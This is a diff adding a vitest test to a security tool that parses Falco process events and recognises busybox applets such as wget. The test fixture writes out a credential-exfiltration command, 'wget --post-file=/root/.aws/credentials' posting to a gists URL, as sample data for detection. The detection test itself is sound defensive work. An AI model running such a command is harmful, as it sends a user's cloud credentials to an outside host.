@@ -6,6 +6,7 @@
 import { describe, expect, it } from 'vitest';
 import { correlatorConfigSchema } from '../../../src/correlate/config.js';
 import { DestinationClassifier } from '../../../src/correlate/destinations.js';
+import { processOf } from '../../../src/formats/falco/process.js';
 import { recognizeProcess } from '../../../src/rules/index.js';
 import { brief, run, Scenario } from '../correlate/builder.js';
 
@@ -51,4 +52,25 @@ describe('multi-call binaries (busybox, toybox)', () => {
       ]);
     });
   }
+
+  // Found by review: through an applet's link (Alpine's `wget`), Falco's proc.exepath is the resolved
+  // /bin/busybox and only the comm, the command line's first word, names the applet.
+  it('an applet run through its link is recognised with Falco', () => {
+    const fields = (cmdline: string) => ({
+      'proc.exepath': '/bin/busybox',
+      'proc.name': cmdline.split(' ')[0],
+      'proc.cmdline': cmdline,
+      'proc.pexepath': '/bin/busybox',
+      'proc.pcmdline': 'sh -c /run.sh',
+    });
+    const p = processOf(fields('wget --post-file=/root/.aws/credentials https://api.github.com/gists'));
+    expect(recognize(p.binary!, p.args!)).toMatchObject({ tool: 'wget', renamed: false });
+    expect(p.parentArgs).toBe('sh -c /run.sh');
+    // Run as `busybox wget …`, the comm is busybox: the arguments are as given.
+    const explicit = processOf(fields('busybox wget --post-file=/x https://api.github.com/gists'));
+    expect(explicit.args).toBe('wget --post-file=/x https://api.github.com/gists');
+    expect(processOf({ ...fields('x'), 'proc.exepath': '/usr/bin/wget', 'proc.cmdline': 'wget -q URL' }).args).toBe(
+      '-q URL',
+    );
+  });
 });
